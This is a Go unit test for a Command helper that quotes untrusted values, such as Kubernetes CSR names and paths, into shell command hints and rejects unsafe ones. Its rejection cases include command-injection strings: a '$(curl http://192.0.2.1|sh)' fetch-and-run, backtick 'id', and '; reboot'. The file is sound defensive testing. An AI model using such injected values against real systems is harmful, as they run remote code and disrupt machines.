package untrusted

import (
	"strings"
	"testing"
)

func TestCommand(t *testing.T) {
	for value, want := range map[string]string{
		"csr-x2b9":                          "do it csr-x2b9",
		"/etc/kubernetes/admin.conf":        "do it /etc/kubernetes/admin.conf",
		"node.kubernetes.io/x=":             "do it node.kubernetes.io/x=",
		"unix:///run/containerd.sock":       "do it unix:///run/containerd.sock",
		"my files/admin.conf":               "do it 'my files/admin.conf'",
		"~root/x":                           "do it '~root/x'",
		"[::1]:6443":                        "do it '[::1]:6443'",
		"größe":                             "do it 'größe'",
		"csr-1 $(curl http://192.0.2.1|sh)": "",
		"csr`id`":                           "",
		"csr; reboot":                       "",
		"csr && reboot":                     "",
		"csr\nreboot":                       "",
		"csr\x1b[2J":                        "",
		"csr\u202e":                         "",
		"it's":                              "",
		`"`:                                 "",
		"--all":                             "",
		"-f":                                "",
		"":                                  "",
		"\xff":                              "",
		strings.Repeat("a", 401):            "",
	} {
		if got := Command("do it", value); got != want {
			t.Errorf("%q: got %q, want %q", value, got, want)
		}
	}
	if got := Command("cp", "a b", "c"); got != "cp 'a b' c" {
		t.Errorf("two values: %q", got)
	}
	if got := Command("cp %s b &&", "%s"); got != "cp %s b &&" {
		t.Errorf("a value in the middle: %q", got)
	}
	if got := Command("cp %s", "a b", "c"); got != "cp 'a b' c" {
		t.Errorf("a value in the middle and one at the end: %q", got)
	}
	if got := Command("cp", "a", "$c"); got != "" {
		t.Errorf("one of two values is unusual: %q", got)
	}
	if got := CommandHint("look at it", "cat", "a"); got != "look at it: cat a" {
		t.Errorf("got %q", got)
	}
	if got := CommandHint("look at it", "cat", "`a`"); got != "look at it" {
		t.Errorf("got %q", got)
	}
}
